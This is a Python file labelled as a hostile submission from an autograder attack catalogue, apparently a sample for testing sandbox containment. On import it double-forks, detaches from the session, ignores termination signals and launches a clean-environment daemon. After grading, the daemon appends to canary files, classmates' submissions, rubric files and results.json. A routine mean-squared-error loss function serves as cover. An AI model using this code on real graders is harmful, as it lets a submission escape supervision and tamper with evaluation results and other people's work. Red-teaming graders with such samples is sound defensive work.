"""Hostile submission (gradverify attack catalogue): a daemon that outlives grading and rewrites things later.

It forks twice, leaves the session, ignores SIGTERM and SIGHUP, and execs a fresh
interpreter with an empty environment (so it carries no marker of the sandbox); the daemon
waits until grading is probably over and then, for a few seconds, rewrites the canary, any
classmate's file, any rubric and any results.json it can find.
"""

import os
import signal
import sys

import numpy as np

DAEMON = r'''
import glob, os, time
time.sleep(0.3)
end = time.time() + 4
while time.time() < end:
    for pattern in ("/tmp/gvattack-canary*", "/var/tmp/gvattack-*/classmate.py", "/var/tmp/gvattack-*/*.toml",
                    "/tmp/gvattack-*/results.json", "/var/tmp/gvattack-*/results.json", "/autograder/results/results.json"):
        for path in glob.glob(pattern):
            try:
                with open(path, "a") as handle:
                    handle.write("gvattack daemon was here\n")
                os.write(1, ("ATTACK-SUCCEEDED: the daemon rewrote " + path + "\n").encode())
            except OSError:
                pass
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            open(os.path.join(folder, "gvattack-daemon-was-here"), "a").close()
        except OSError:
            pass
    time.sleep(0.1)
'''


def _daemonise():
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        os.execve(sys.executable, [sys.executable, "-I", "-c", DAEMON], {})
    finally:
        os._exit(0)


_daemonise()
try:
    os.wait()
except ChildProcessError:
    pass


def loss(name, y_pred, y_true):
    return float(np.mean((y_pred - y_true) ** 2))


def loss_backward(name, y_pred, y_true):
    return 2.0 * (y_pred - y_true) / y_pred.size
